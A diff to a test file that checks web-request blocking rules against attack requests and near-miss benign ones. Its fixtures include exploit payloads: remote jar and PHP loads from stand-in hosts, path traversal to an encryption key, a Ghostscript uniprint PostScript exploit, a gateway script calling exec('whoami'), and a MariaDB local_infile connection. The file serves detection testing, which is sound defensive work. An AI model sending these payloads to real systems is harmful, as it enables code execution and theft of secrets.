@@ -1,13 +1,14 @@
 /**
- * Bundled rules of rev 2026-12-11p (issue 18, session 30): shapes held-out sets 19–23's misses showed (read), each written
+ * Bundled rules of revs 2026-12-11p and 2026-12-11q (issue 18, session 30): shapes held-out sets 19–23's misses showed (read), each written
  * for the mechanism rather than the product and kept only with no benign hit. Each fires on its attack, sent the way such
  * an exploit sends it, and stays quiet on the benign request closest to it: a codec list, a role editor's capabilities, a
  * search for an option's text, an .env example in a note, another Ansible lookup, a WebDAV move inside the user's tree, a
- * report saved as CSV, a UDF from the cluster's own storage, a gateway script that only logs.
+ * report saved as CSV, a UDF from the cluster's own storage, a gateway script that only logs, a
+ * photo imported by URL, one step up to an image, a designer's EPS, a connection URL with ordinary options.
  */
 import { describe } from 'vitest';
 import type { RequestSpec } from './fixtures.js';
-import { BROWSER, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet, get, postForm, postJson } from './bundled-requests.js';
+import { BROWSER, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet, get, multipart, postForm, postJson } from './bundled-requests.js';
 
 const { hits, rules } = useBundledRuleSet();
 
@@ -33,9 +34,16 @@ const CASES: RuleCase[] = [
   [9000123, 'block', 'a UDF registered from a jar on a remote host', postJson('/rest/v2/nonQuery', '{"sql":"CREATE FUNCTION avg2 AS \'com.x.Evil\' USING URI \'http://dl.example.net/a.jar\'"}'), postJson('/rest/v2/nonQuery', '{"sql":"CREATE FUNCTION avg2 AS \'org.example.udf.Avg\' USING URI \'hdfs:///udf/avg2.jar\'"}')],
   [9000123, 'block', 'ADD JAR from a remote URL in a notebook query', postForm('/notebook/api/execute/hive', 'statement=ADD+JAR+%27https%3A%2F%2F198.51.100.7%2Fx.jar%27%3B'), postForm('/notebook/api/execute/hive', 'statement=ADD+JAR+%2Fopt%2Fhive%2Flib%2Fudf.jar%3B')],
   [9001397, 'block', 'a gateway virtual endpoint whose base64 source runs a probe', tykApi('function f(request, session, config) { var o = exec("whoami"); return TykJsResponse({Body: o, Code: 200}, session.meta_data) }'), tykApi('function f(request, session, config) { log("whoami called"); return TykJsResponse({Body: "ok", Code: 200}, session.meta_data) }')],
+  [9000568, 'block', 'a remote import of a PHP file by URL', postForm('/index.php/ccm/system/file/import_remote', 'url_upload_1=https%3A%2F%2Fstatic10.example.net%2F56fgoj.php&url_upload_2=&ocID=11'), postForm('/index.php/ccm/system/file/import_remote', 'url_upload_1=https%3A%2F%2Fstatic10.example.net%2Fphotos%2Fbeach.jpg&url_upload_2=&ocID=11')],
+  [9000568, 'block', 'an import URL of a script disguised by an image suffix', postJson('/api/media/import', '{"remote_url":"http://dl.example.net/s.phtml?.png"}'), postJson('/api/feeds/import', '{"import_url":"https://blog.example.org/feed.php?format=rss"}')],
+  [9000429, 'block', 'a service pack path two levels up', postForm('/commandcenter/deployWebpackage.do', 'commserver=node.example.net&servicePack=..%2F..%2FReports%2FMetricsUpload%2Fx%2F&version=Version11'), postForm('/cms/page', 'title=About&image=..%2Fimages%2Fteam.png')],
+  [9000429, 'block', 'a JSON file name two levels up to a dot directory', postJson('/api/v1/openai-assistants-file/download', '{"chatflowId":"1","fileName":"../../.flowise/encryption.key"}'), postJson('/api/v1/openai-assistants-file/download', '{"chatflowId":"1","fileName":"report..final.pdf"}')],
+  [9000392, 'block', 'an uploaded PostScript setting the uniprint device and an output file', multipart('upload', '%!PS-Adobe-3.0\nmark /OutputFile (/tmp/x) /OutputDevice /uniprint /upYMoveCommand (%x%hn) .dicttomark setpagedevice\nshowpage'), multipart('upload', '%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\nnewpath 0 0 moveto 100 100 lineto stroke\nshowpage')],
+  [9001091, 'block', 'a connection test to a MariaDB server with local_infile on', postJson('/api/v1/database/test_connection/', '{"sqlalchemy_uri":"mariadb://superset:x@db.example.net:3306/db?charset=utf8&local_infile=1"}'), postJson('/api/v1/database/test_connection/', '{"sqlalchemy_uri":"mysql+pymysql://superset:x@db.example.net:3306/db?charset=utf8mb4&ssl=true"}')],
+
 ];
 
-describe('bundled rules from held-out sets 19-23\'s misses (rev 2026-12-11p)', () => {
+describe('bundled rules from held-out sets 19-23\'s misses (revs 2026-12-11p, 2026-12-11q)', () => {
   testRuleCases(CASES, hits);
   testPrefilterEntries(CASES.map(([sid]) => sid), rules);
 });
